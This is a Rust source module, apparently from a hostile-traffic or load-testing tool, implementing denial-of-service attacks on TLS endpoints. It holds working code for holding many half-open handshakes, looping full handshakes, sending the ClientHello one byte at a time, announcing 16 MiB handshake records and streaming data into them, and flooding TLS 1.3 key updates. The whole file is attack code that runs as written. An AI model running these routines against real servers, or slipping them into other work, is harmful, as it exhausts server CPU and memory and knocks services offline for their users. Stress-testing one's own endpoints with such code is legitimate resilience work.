//! Attacks by TLS handshakes: the endpoint signs and computes keys for every client that begins one.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;

use tokio_rustls::rustls::{ClientConfig, ClientConnection};

use super::connect_from_elsewhere;
use crate::hostile::target::Target;
use crate::hostile::tls::{connection, hello};

/// Handshakes of one attacker that are not continued.
const HALF_OPEN: usize = 100;
/// A handshake record with the greatest allowed length, of a message of 16 MiB.
const PROMISE: &[u8] = &[0x16, 3, 1, 0x40, 0, 1, 0xff, 0xff, 0xff];

fn config(target: &Target) -> &Arc<ClientConfig> {
    target.tls.as_ref().unwrap()
}

/// Handshakes that begin, have the endpoint compute its answer, and are not continued.
pub(super) fn half_open(target: &Target) {
    let hello = hello(config(target));
    let mut held = Vec::new();
    while target.is_running() {
        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
        let _ = stream.write_all(&hello);
        held.push(stream);
        target.add_operations(1);
        if held.len() > HALF_OPEN {
            held.drain(..HALF_OPEN / 2);
        }
    }
}

/// A connection after its handshake.
fn handshake(target: &Target) -> Option<(ClientConnection, TcpStream)> {
    let (mut tls, mut stream) = (connection(config(target)), connect_from_elsewhere(target.port())?);
    stream.set_read_timeout(Some(std::time::Duration::from_secs(2))).ok()?;
    while tls.is_handshaking() {
        tls.complete_io(&mut stream).ok()?;
    }
    target.add_operations(1);
    Some((tls, stream))
}

pub(super) fn handshakes(target: &Target) {
    while target.is_running() {
        drop(handshake(target));
    }
}

/// Each byte of the first message comes alone.
pub(super) fn pieces(target: &Target) {
    let hello = hello(config(target));
    let mut buffer = [0; 4_096];
    while target.is_running() {
        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
        let _ = stream.set_nodelay(true);
        for byte in hello.chunks(1) {
            if stream.write_all(byte).is_err() || !target.is_running() {
                break;
            }
            target.add_operations(1);
        }
        let _ = stream.read(&mut buffer);
    }
}

/// Handshake messages with an announced length of 16 MiB, and as much of them as the endpoint takes.
pub(super) fn promises(target: &Target) {
    let record = [PROMISE, &[0; (16 << 10) - 4]].concat();
    let more = [&[0x16, 3, 1, 0x40, 0][..], &[0; 16 << 10]].concat();
    while target.is_running() {
        let Some(mut stream) = connect_from_elsewhere(target.port()) else { continue };
        let mut sent = stream.write_all(&record);
        while sent.is_ok() && target.is_running() {
            target.add_operations(1);
            target.add_bytes(more.len());
            sent = stream.write_all(&more);
        }
    }
}

/// Both sides have to compute new keys, again and again: what is left of renegotiation in TLS 1.3.
pub(super) fn key_updates(target: &Target) {
    while target.is_running() {
        let Some((mut tls, mut stream)) = handshake(target) else { continue };
        while target.is_running() && tls.refresh_traffic_keys().is_ok() {
            let Ok(bytes) = tls.write_tls(&mut stream) else { break };
            target.add_operations(1);
            target.add_bytes(bytes);
        }
    }
}
